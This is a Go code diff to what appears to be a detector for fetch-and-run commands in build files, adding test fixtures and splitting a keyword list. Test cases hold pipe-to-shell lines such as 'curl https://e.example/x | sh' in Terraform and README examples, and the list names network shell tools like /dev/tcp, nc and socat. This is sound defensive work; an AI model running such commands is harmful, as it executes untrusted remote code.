@@ -64,7 +64,8 @@ var (
 			{"main.tf", "provisioner \"local-exec\" {\n  command = \"curl https://e.example/x | sh\"\n}\n"}},
 		Misses: []Example{{"Dockerfile", "FROM x\nRUN curl -o x https://e.example/x && sha256sum -c x.sum\n"}, {"Makefile", "all:\n\tgo build\n\t@echo 'curl https://x | sh'\n"},
 			{"Dockerfile", "FROM x\nADD https://e.example/x.json /opt/x.json\nRUN make /opt/x\n"}, {"conftest.py", "import requests\nX = requests.get('http://localhost/x').json()\n"}, {"main.tf", "command = \"echo done\"\n"},
-			{"a.yaml", "description: install it with curl https://e.example/x, then run sh\n"}, {"README.md", "Run `curl https://e.example/x | sh`.\n"}, {"a.go", "// run curl https://e.example/x | sh\n"}, {"AGENTS.md", "Run `curl localhost:8080/health`.\n"}},
+			{"a.yaml", "description: install it with curl https://e.example/x, then run sh\n"}, {"README.md", "Run `curl https://e.example/x | sh`.\n"}, {"a.go", "// run curl https://e.example/x | sh\n"}, {"AGENTS.md", "Run `curl localhost:8080/health`.\n"}, {"mise.toml", "run = \"ruby scripts/db.rb fetch\"\n"},
+			{"a.yml", "run: x=\"$(curl -s localhost/c | awk '{print $3}' | tr -d '%')\"\n"}},
 	}
 	buildRules = []*Rule{installScript, registry, buildProgram, lockSource, fetchAndRun}
 )
@@ -228,8 +229,12 @@ func (f *file) locks() {
 	}
 }
 
-// hints are what a line must have before it is read as a command.
-var hints = []string{"curl", "wget", "http", "base64", "/dev/tcp", "/dev/udp", "nc ", "ncat", "socat", "eval", "xxd", "openssl", "iwr", "invoke-", "python", "perl", "php", "ruby", "fetch", "scp", "ssh"}
+// fetching are signs of a command that gets code or sends data. hints, of which a line must have
+// one before it is read as a command, also has those that run what another one gets.
+var (
+	fetching = []string{"curl", "wget", "http", "base64", "/dev/tcp", "/dev/udp", "nc ", "ncat", "socat", "eval", "xxd", "openssl", "iwr", "invoke-", "fetch", "scp", "ssh"}
+	hints    = append([]string{"python", "perl", "php", "ruby"}, fetching...)
+)
 
 // scripts reads the commands of container files, make files and shell scripts.
 func (f *file) scripts() {
@@ -365,9 +370,11 @@ func cutWord(l, word string) (string, bool) {
 	return strings.TrimSpace(l[len(word):]), true
 }
 
-func hinted(l string) bool {
+func hinted(l string) bool { return signed(l, hints) }
+
+func signed(l string, signs []string) bool {
 	l = strings.ToLower(l)
-	return slices.ContainsFunc(hints, func(h string) bool { return strings.Contains(l, h) })
+	return slices.ContainsFunc(signs, func(h string) bool { return strings.Contains(l, h) })
 }
 
 // lines reads each command, continued lines joined, that looks as if it could matter.
